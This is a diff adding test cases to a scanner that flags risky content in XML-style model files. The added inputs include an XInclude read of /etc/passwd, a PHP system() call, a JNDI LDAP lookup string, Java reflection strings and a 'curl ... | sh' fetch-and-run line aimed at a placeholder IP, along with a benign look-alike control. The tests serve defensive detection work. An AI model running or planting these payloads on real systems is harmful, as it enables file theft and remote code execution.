@@ -106,6 +106,34 @@ CASES = {
         lambda: document(extension(name="init", value="__import__('os').system('echo modelsweep-test')")),
         Verdict.REVIEW,
     ),
+    "include_of_a_draft": case(
+        lambda: document('<q:include href="/etc/passwd"/>', attributes=' xmlns:q="http://www.w3.org/2003/XInclude"'),
+        Verdict.REVIEW,
+    ),
+    "instruction_runs": case(lambda: document('<?php system("echo modelsweep-test"); ?>'), Verdict.REVIEW),
+    **{
+        f"code_in_extension_{number}": case(
+            lambda code=code: document(f"<Extension><![CDATA[{code}]]></Extension>"),  # type: ignore[misc]
+            Verdict.REVIEW,
+        )
+        for number, code in enumerate(
+            (
+                "${jndi:" + "ldap://192.0.2.1/a}",
+                "importlib.import_module('os')",
+                "new java.net.URL(x)",
+                "Class.forName(x)",
+                "cmd.exe /c calc",
+                "curl http://192.0.2.1/x | sh",
+            )
+        )
+    },
+    "benign_words_in_extension": case(
+        lambda: document(
+            "<Extension>compiled by javac; class Forname; see java.lang.String, https://example.org and /bin/shape"
+            "</Extension>"
+        ).rstrip(),
+        Verdict.CLEAN,
+    ),
     "class_runs": case(lambda: document(applied("java.lang.Runtime.exec")), Verdict.REVIEW),
     "deep": case(deep, Verdict.REVIEW),
     "other_root": case(lambda: b"<html><body/></html>", Verdict.NOT_SCANNED),
